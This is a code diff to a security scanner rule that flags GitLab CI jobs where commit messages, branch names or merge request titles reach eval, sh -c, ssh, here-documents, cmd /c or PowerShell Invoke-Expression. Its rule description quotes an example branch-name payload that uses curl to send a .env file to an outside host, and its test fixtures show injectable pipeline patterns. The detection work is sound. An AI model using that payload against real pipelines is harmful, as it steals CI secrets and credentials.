@@ -1,6 +1,6 @@
 import { detailNote, inside } from '../rule.js';
 import { inScript, lineAtOffset } from '../script-checks.js';
-import { basename, effectiveWords, parseShell, type ShellWord } from '../shell.js';
+import { basename, effectiveWords, parseShell, type ShellCommand, type ShellWord } from '../shell.js';
 import { get, text } from '../yaml/tree.js';
 import { gitlabRule, lineOf, pipeline, pipelineScripts, variableScopes, variableValue, type Pipeline } from './pipeline.js';
 
@@ -33,17 +33,38 @@ const severityOf = (name: string) => (MEMBERS_ONLY.has(name) ? { severity: 'medi
 const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'ash', 'mksh', 'su']);
 
 /**
+ * Forms of expansion beyond the POSIX shell's `$NAME`, read for the sinks of Windows:
+ * `percent`, cmd's `%NAME%` (expanded by cmd itself, whatever quotes the outer shell
+ * wrote around it); `env`, PowerShell's `$env:NAME` and `${env:NAME}`.
+ */
+interface WindowsForms {
+  percent?: boolean;
+  env?: boolean;
+  /** `$NAME` (default true): PowerShell reads it as one of its own variables, not the environment's. */
+  posix?: boolean;
+}
+
+/**
  * The variables a word expands directly, as written in the script from `offset`: `$NAME`
  * and `${NAME...}` outside single quotes and not escaped. What a command substitution
  * (`$(...)`, backticks) expands is the substitution's own argument, not part of the text.
+ * Windows variable names, which Windows takes in any case, are given in upper case.
  */
-function directExpansions(script: string, offset: number): string[] {
+function directExpansions(script: string, offset: number, forms: WindowsForms = {}): string[] {
   const names: string[] = [];
   let quote: "'" | '"' | undefined;
   let depth = 0;
   let backtick = false;
   for (let i = offset; i < script.length; i++) {
     const c = script[i]!;
+    if (c === '%' && forms.percent) {
+      const name = /^%([A-Za-z_]\w*)%/.exec(script.slice(i, i + 80));
+      if (name) {
+        names.push(name[1]!.toUpperCase());
+        i += name[0].length - 1;
+        continue;
+      }
+    }
     if (quote === "'") {
       if (c === "'") quote = undefined;
       continue;
@@ -59,11 +80,23 @@ function directExpansions(script: string, offset: number): string[] {
     else if (c === '$' && script[i + 1] === '(') depth++, i++;
     else if (c === ')' && depth > 0) depth--;
     else if (c === '$' && depth === 0 && !backtick) {
+      const env = forms.env ? /^\$(?:\{env:([A-Za-z_]\w*)\}|env:([A-Za-z_]\w*))/i.exec(script.slice(i, i + 80)) : null;
       const name = /^\$(?:\{([A-Za-z_]\w*)|([A-Za-z_]\w*))/.exec(script.slice(i, i + 80));
-      if (name) names.push(name[1] ?? name[2]!);
+      if (env) names.push((env[1] ?? env[2]!).toUpperCase());
+      else if (name && forms.posix !== false) names.push(name[1] ?? name[2]!);
     }
   }
   return names;
+}
+
+/** The variables a here-document's body expands (its delimiter unquoted): `$NAME` and `${NAME...}` not escaped, wherever they are, quotes being text there. With their offsets. */
+function bodyExpansions(script: string, start: number, end: number): Array<{ name: string; offset: number }> {
+  const out: Array<{ name: string; offset: number }> = [];
+  for (const match of script.slice(start, end).matchAll(/(\\*)\$(?:\{([A-Za-z_]\w*)|([A-Za-z_]\w*))/g)) {
+    if (match[1]!.length % 2 === 1) continue;
+    out.push({ name: match[2] ?? match[3]!, offset: start + match.index + match[1]!.length });
+  }
+  return out;
 }
 
 /** ssh's options that take a value (`-i key`, `-p 22`, `-o Option=value`). */
@@ -76,18 +109,139 @@ function sshCommand(words: readonly ShellWord[]): ShellWord[] {
   return words.slice(k + 1);
 }
 
+/** sshpass's options that take a value (`-p password`, `-f file`, `-d fd`, `-P prompt`). */
+const SSHPASS_VALUE_OPTIONS = /^-[pfdP]$/;
+
+/** The ssh command a command runs: itself, or the one sshpass (which types the password) runs; undefined for another command. */
+function sshOf(words: readonly ShellWord[]): ShellWord[] | undefined {
+  let from = 0;
+  if (basename(words[0]?.text ?? '') === 'sshpass') {
+    from = 1;
+    while (from < words.length && words[from]!.text.startsWith('-')) from += SSHPASS_VALUE_OPTIONS.test(words[from]!.text) ? 2 : 1;
+  }
+  return basename(words[from]?.text ?? '') === 'ssh' ? words.slice(from) : undefined;
+}
+
+/** Whether the words, from a shell among them, run the script the shell reads on standard input (`bash`, `sh -s -- arg`, `su - deploy`), not a file or `-c` text. */
+function shellReadsStdin(words: readonly ShellWord[]): boolean {
+  const k = words.findIndex((w) => SHELLS.has(basename(w.text)));
+  if (k < 0) return false;
+  for (let j = k + 1; j < words.length; j++) {
+    const w = words[j]!.text;
+    if (/^-[a-z]*c[a-z]*$/i.test(w)) return false;
+    if (w === '-' || w === '-s' || w === '--') return true;
+    if (/^[-+]o$/.test(w)) j++;
+    else if (!w.startsWith('-')) return basename(words[k]!.text) === 'su';
+  }
+  return true;
+}
+
+/** Who runs what a command reads on standard input as shell code: a shell reading its script there, or ssh's remote shell (ssh without a remote command, or with such a shell as one). */
+function stdinShell(words: readonly ShellWord[]): string | undefined {
+  const ssh = sshOf(words);
+  if (ssh) {
+    const remote = sshCommand(ssh);
+    return remote.length === 0 || shellReadsStdin(remote) ? SSH_SINK : undefined;
+  }
+  return shellReadsStdin(words) ? `${basename(words.find((w) => SHELLS.has(basename(w.text)))!.text)} (a here-document)` : undefined;
+}
+
+/**
+ * Who runs the body of a here-document the command at `index` of its pipeline opens, as
+ * shell code: the command itself (stdinShell), or one later in the pipeline that `cat`
+ * hands the body to. Undefined when the body is data.
+ */
+function heredocShell(pipeline: readonly ShellCommand[], index: number): string | undefined {
+  const words = effectiveWords(pipeline[index]!);
+  const own = stdinShell(words);
+  if (own || basename(words[0]?.text ?? '') !== 'cat') return own;
+  return pipeline.slice(index + 1).map((c) => stdinShell(effectiveWords(c))).find((sink) => sink !== undefined);
+}
+
+/** Shells of Windows: cmd runs the rest of its line after /c (or /k); PowerShell runs its -Command text, Invoke-Expression its argument. */
+const CMD = /^cmd(?:\.exe)?$/i;
+const POWERSHELL = /^(?:pwsh|powershell)(?:\.exe)?$/i;
+const INVOKE_EXPRESSION = /^(?:Invoke-Expression|iex)$/i;
+
+/** The words a Windows shell parses as code in a command, with the forms of expansion the outer shell and it apply there; none for another command. */
+function windowsSinks(words: readonly ShellWord[]): Array<{ word: ShellWord; sink: string; forms: WindowsForms }> {
+  const program = basename(words[0]?.text.replace(/\\/g, '/') ?? '');
+  if (INVOKE_EXPRESSION.test(program)) {
+    // Invoke-Expression [-Command] text: PowerShell expands $env:NAME in it first.
+    return words.slice(1).filter((w) => !/^-Command$/i.test(w.text)).map((word) => ({ word, sink: 'Invoke-Expression', forms: { env: true, posix: false } }));
+  }
+  if (CMD.test(program)) {
+    const at = words.findIndex((w, k) => k > 0 && /^\/[ck]$/i.test(w.text));
+    // Expanded by the outer shell (bash's $NAME, PowerShell's $env:NAME), then by cmd (%NAME%).
+    return at < 0 ? [] : words.slice(at + 1).map((word) => ({ word, sink: 'cmd /c', forms: { percent: true, env: true } }));
+  }
+  if (POWERSHELL.test(program)) {
+    const at = words.findIndex((w, k) => k > 0 && /^-(?:c|Command)$/i.test(w.text));
+    return at < 0 ? [] : words.slice(at + 1).map((word) => ({ word, sink: `${program.replace(/\.exe$/i, '')} -Command`, forms: { env: true } }));
+  }
+  return [];
+}
+
+/** Commands that set shell variables (`X=...`, `export X=...`): each assignment word. */
+const DECLARES = new Set(['export', 'declare', 'typeset', 'local', 'readonly']);
+
+function assignmentsOf(command: ShellCommand): ShellWord[] {
+  if (command.words.length === 0) return command.assignments;
+  if (!DECLARES.has(command.words[0]!.text)) return [];
+  return command.words.slice(1).filter((w) => /^[A-Za-z_]\w*=/.test(w.text));
+}
+
 /**
  * Words of a script that the shell reads again as code after expanding them: the arguments
- * of `eval`, and the script of `sh -c '...'` (`bash -ec`, `su -c`, also after a wrapper
- * such as `docker exec ctr` or `kubectl exec pod --`), each with the attacker-written
- * variables it expands directly.
+ * of `eval`, the script of `sh -c '...'` (`bash -ec`, `su -c`, also after a wrapper
+ * such as `docker exec ctr` or `kubectl exec pod --`), the remote command of ssh (also
+ * run by sshpass), the command line of `cmd /c` and the text of PowerShell's
+ * Invoke-Expression and `-Command`, each with the attacker-written variables it expands
+ * directly; and the body of a here-document (delimiter unquoted) that a shell reads as its
+ * script, where the outer shell expands every `$NAME` before the inner one parses it.
+ *
+ * `carriers` maps variables that hold such text to the predefined variable they hold:
+ * those of the pipeline file, and those the script sets (`X="$CI_COMMIT_MESSAGE"`,
+ * `export X=...`) before it runs them; the script's assignments are written into it, so
+ * that the next script of the same shell (the job's next line) sees them.
  */
-function* injections(script: string, carriers: ReadonlyMap<string, string> = new Map()): Generator<{ offset: number; name: string; source: string; sink: string }> {
-  for (const command of parseShell(script).flat()) {
+function* injections(script: string, carriers: Map<string, string> = new Map()): Generator<{ offset: number; name: string; source: string; sink: string }> {
+  const sourceOf = (name: string) => (name in WRITTEN_BY ? name : carriers.get(name));
+  const pipelines = parseShell(script);
+  // Bodies of here-documents a shell runs with the outer shell's expansions: read whole below, not command by command.
+  const expandedBodies: Array<[number, number]> = [];
+  for (const pipeline of pipelines) {
+    pipeline.forEach((command, index) => {
+      for (const doc of command.heredocs ?? []) if (!doc.quoted && heredocShell(pipeline, index)) expandedBodies.push([doc.start, doc.end]);
+    });
+  }
+  const inExpandedBody = (offset: number) => expandedBodies.some(([from, to]) => offset >= from && offset < to);
+  for (const pipeline of pipelines) for (let index = 0; index < pipeline.length; index++) {
+    const command = pipeline[index]!;
+    for (const doc of command.heredocs ?? []) {
+      const shell = doc.quoted ? undefined : heredocShell(pipeline, index);
+      if (!shell) continue;
+      const reported = new Set<string>();
+      for (const { name, offset } of bodyExpansions(script, doc.start, doc.end)) {
+        const source = sourceOf(name);
+        if (!source || reported.has(name)) continue;
+        reported.add(name);
+        yield { offset, name, source, sink: shell };
+      }
+    }
+    if (inExpandedBody(command.offset)) continue;
+    for (const word of assignmentsOf(command)) {
+      const name = word.text.slice(0, word.text.indexOf('='));
+      const source = directExpansions(script, word.offset).map(sourceOf).find((s) => s !== undefined);
+      if (source && !(name in WRITTEN_BY)) carriers.set(name, source);
+      else carriers.delete(name);
+    }
     const words = effectiveWords(command);
-    const reread: Array<{ word: ShellWord; sink: string }> = [];
+    const reread: Array<{ word: ShellWord; sink: string; forms?: WindowsForms }> = [];
     if (basename(words[0]?.text ?? '') === 'eval') reread.push(...words.slice(1).map((word) => ({ word, sink: 'eval' })));
-    if (basename(words[0]?.text ?? '') === 'ssh') reread.push(...sshCommand(words).map((word) => ({ word, sink: SSH_SINK })));
+    const ssh = sshOf(words);
+    if (ssh) reread.push(...sshCommand(ssh).map((word) => ({ word, sink: SSH_SINK })));
+    reread.push(...windowsSinks(words));
     for (let k = 0; k < words.length; k++) {
       const shell = basename(words[k]!.text);
       if (!SHELLS.has(shell)) continue;
@@ -99,9 +253,9 @@ function* injections(script: string, carriers: ReadonlyMap<string, string> = new
       if (script) reread.push({ word: script, sink: `${shell} -c` });
     }
     const reported = new Set<string>();
-    for (const { word, sink } of reread) {
-      for (const name of directExpansions(script, word.offset)) {
-        const source = name in WRITTEN_BY ? name : carriers.get(name);
+    for (const { word, sink, forms } of reread) {
+      for (const name of directExpansions(script, word.offset, forms)) {
+        const source = sourceOf(name);
         if (!source || reported.has(name)) continue;
         reported.add(name);
         yield { offset: word.offset, name, source, sink };
@@ -135,7 +289,7 @@ const scriptInjection = gitlabRule({
   id: 'iac/gitlab-script-injection',
   title: 'Commit or merge request text run as shell code in CI',
   description:
-    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), or the remote command of `ssh host ...`, which ssh joins into one line for the remote shell to parse (quoting it locally does not help there). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable of the file set from one of them (`BRANCH: $CI_COMMIT_BRANCH`, expanded by GitLab when it creates the job) carries it too. The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
+    'A job passes a predefined variable whose text a contributor writes (CI_COMMIT_MESSAGE, CI_COMMIT_BRANCH, CI_COMMIT_REF_NAME, CI_MERGE_REQUEST_TITLE, CI_MERGE_REQUEST_SOURCE_BRANCH_NAME...) to a command that reads it again as shell code: `eval`, the script of `sh -c "..."` (bash, zsh, su -c, also through docker exec or kubectl exec), the remote command of `ssh host ...` (also run by sshpass), which ssh joins into one line for the remote shell to parse (quoting it locally does not help there), the body of a here-document that a shell or ssh reads as its script (`bash <<EOF`, `cat <<EOF | ssh host`: the job\'s shell expands every $NAME of the body first, quotes in it being text; a quoted delimiter, `<<\'EOF\'`, expands nothing), or on Windows the command line of `cmd /c` (which expands %NAME% itself), the text of PowerShell\'s Invoke-Expression and of `pwsh -Command` (with $env:NAME). GitLab hands predefined variables to the job as environment variables, so `echo "$CI_COMMIT_MESSAGE"` only prints the text; but once expanded into the text that eval or sh -c parses, a commit message or branch name such as `x;curl${IFS}-d@.env${IFS}example.org` runs as a command, with the job\'s CI/CD variables. Git allows `$(...)`, `;` and quotes in branch and tag names. A variable of the file set from one of them (`BRANCH: $CI_COMMIT_BRANCH`, expanded by GitLab when it creates the job) carries it too, and so does a shell variable a line of the job\'s before_script or script sets from one (`export MSG="$CI_COMMIT_MESSAGE"`) before a later line runs it (`eval "$MSG"`). The tag name and message (CI_COMMIT_TAG, CI_COMMIT_TAG_MESSAGE), which only members allowed to push tags write, are reported as medium. A variable inside single quotes or escaped (`sh -c \'echo "$CI_COMMIT_BRANCH"\'`) is expanded by the inner shell as data and is not reported. The shell scripts of the repository that a job runs (`- ./ci/build.sh`, `- bash ci/release.sh`) are read and judged too, on their own lines.',
   remediation: 'Do not build shell code from these variables: run the command directly with the variable quoted (`deploy --branch "$CI_COMMIT_BRANCH"`), or pass it to the inner shell as an argument (`sh -c \'deploy --branch "$1"\' sh "$CI_COMMIT_BRANCH"`); use CI_COMMIT_REF_SLUG where a name must be safe.',
   severity: 'high',
   cwe: ['CWE-78', 'CWE-94'],
@@ -148,6 +302,13 @@ const scriptInjection = gitlabRule({
       // Through a variable of the file that GitLab expands when it creates the job.
       pipeline('variables:\n  BRANCH: $CI_COMMIT_BRANCH\ndeploy:\n  # expect\n  script:\n    # detail\n    - eval "deploy --branch $BRANCH"\n'),
       pipeline("release:\n  # expect\n  script:\n    # detail\n    - bash -ec 'git tag v1 -m '\"$CI_COMMIT_MESSAGE\"\n"),
+      // Through a shell variable an earlier line of the job sets.
+      pipeline('notify:\n  before_script:\n    - export TITLE="$CI_MERGE_REQUEST_TITLE"\n  # expect\n  script:\n    # detail\n    - sh -c "notify $TITLE"\n'),
+      // The body of a here-document a shell runs, expanded by the job's shell first.
+      pipeline('deploy:\n  # expect\n  script:\n    - |\n      bash <<EOF\n      set -e\n      # detail\n      git tag -a v1 -m "$CI_COMMIT_TITLE"\n      EOF\n'),
+      pipeline('deploy:\n  # expect\n  script:\n    # detail\n    - sshpass -e ssh deploy@app.example.org "./deploy.sh $CI_COMMIT_REF_NAME"\n'),
+      pipeline('deploy:\n  tags: [windows]\n  # expect\n  script:\n    # detail\n    - cmd /c "notify %CI_COMMIT_MESSAGE%"\n'),
+      pipeline('deploy:\n  tags: [windows]\n  # expect\n  script:\n    # detail\n    - Invoke-Expression "notify $env:CI_MERGE_REQUEST_TITLE"\n'),
     ],
     negative: [
       pipeline(
@@ -156,12 +317,22 @@ const scriptInjection = gitlabRule({
       pipeline(
         "variables:\n  RAW_BRANCH:\n    value: $CI_COMMIT_BRANCH\n    expand: false\n  SLUG: $CI_COMMIT_REF_SLUG\ndeploy:\n  script:\n    - eval \"deploy --slug $SLUG --raw $RAW_BRANCH\"\n",
       ),
+      // A variable set from the text but printed, one set again before it runs, a quoted here-document, one written to a file.
+      pipeline(
+        "deploy:\n  script:\n    - export MSG=\"$CI_COMMIT_MESSAGE\"\n    - echo \"$MSG\"\n    - TITLE=\"$CI_MERGE_REQUEST_TITLE\"\n    - TITLE=release\n    - eval \"notify $TITLE\"\n    - |\n      bash <<'EOF'\n      echo \"$CI_COMMIT_TITLE\"\n      EOF\n    - |\n      cat <<EOF > notes.txt\n      $CI_COMMIT_MESSAGE\n      EOF\n",
+      ),
+      // Windows: printed, or single-quoted for PowerShell, which then reads the variable as data.
+      pipeline("deploy:\n  tags: [windows]\n  script:\n    - echo %CI_COMMIT_MESSAGE%\n    - Write-Output $env:CI_COMMIT_MESSAGE\n    - Invoke-Expression 'notify $env:CI_MERGE_REQUEST_TITLE'\n    - cmd /c \"notify --slug %CI_COMMIT_REF_SLUG%\"\n"),
     ],
   },
   *check(p) {
     const carried = carriers(p);
-    for (const { owner, scalar, text: script, keyLine } of pipelineScripts(p)) {
-      for (const { offset, name, source, sink } of injections(script, carried)) {
+    // What a line of a job's before_script and script sets, the next lines see (one shell); after_script runs in a shell of its own.
+    const shells = new Map<string, Map<string, string>>();
+    for (const { owner, scalar, text: script, keyLine, key } of pipelineScripts(p)) {
+      const shell = `${owner}\0${key === 'after_script' ? key : 'script'}`;
+      if (!shells.has(shell)) shells.set(shell, new Map(carried));
+      for (const { offset, name, source, sink } of injections(script, shells.get(shell))) {
         const at = inside(keyLine, lineOf(p, scalar, offset));
         const via = name === source ? '' : ` (set from $${source})`;
         yield { ...at, message: `${owner} expands $${name}${via} into the code ${sink} runs${detailNote(at)}: whoever writes ${WRITTEN_BY[source]} can run commands ${where(sink)}.`, resource: owner, ...severityOf(source) };
@@ -171,8 +342,11 @@ const scriptInjection = gitlabRule({
   scripts: {
     problem: 'ci-text-run-as-code',
     examples: {
-      positive: ['#!/bin/sh\nset -eu\n# expect\neval "notify --title $CI_MERGE_REQUEST_TITLE"\n'],
-      negative: ['#!/bin/sh\nnotify --title "$CI_MERGE_REQUEST_TITLE"\nsh -c \'notify --title "$CI_MERGE_REQUEST_TITLE"\'\n'],
+      positive: [
+        '#!/bin/sh\nset -eu\n# expect\neval "notify --title $CI_MERGE_REQUEST_TITLE"\n',
+        '#!/bin/sh\nmsg="$CI_COMMIT_MESSAGE"\n# expect\nsh -c "notify $msg"\nssh deploy@app.example.org <<EOF\n# expect\n./deploy.sh $CI_COMMIT_BRANCH\nEOF\n',
+      ],
+      negative: ['#!/bin/sh\nnotify --title "$CI_MERGE_REQUEST_TITLE"\nsh -c \'notify --title "$CI_MERGE_REQUEST_TITLE"\'\nssh deploy@app.example.org <<\'EOF\'\n./deploy.sh "$CI_COMMIT_BRANCH"\nEOF\n'],
     },
     *check(script) {
       for (const { offset, name, sink } of injections(script.text))
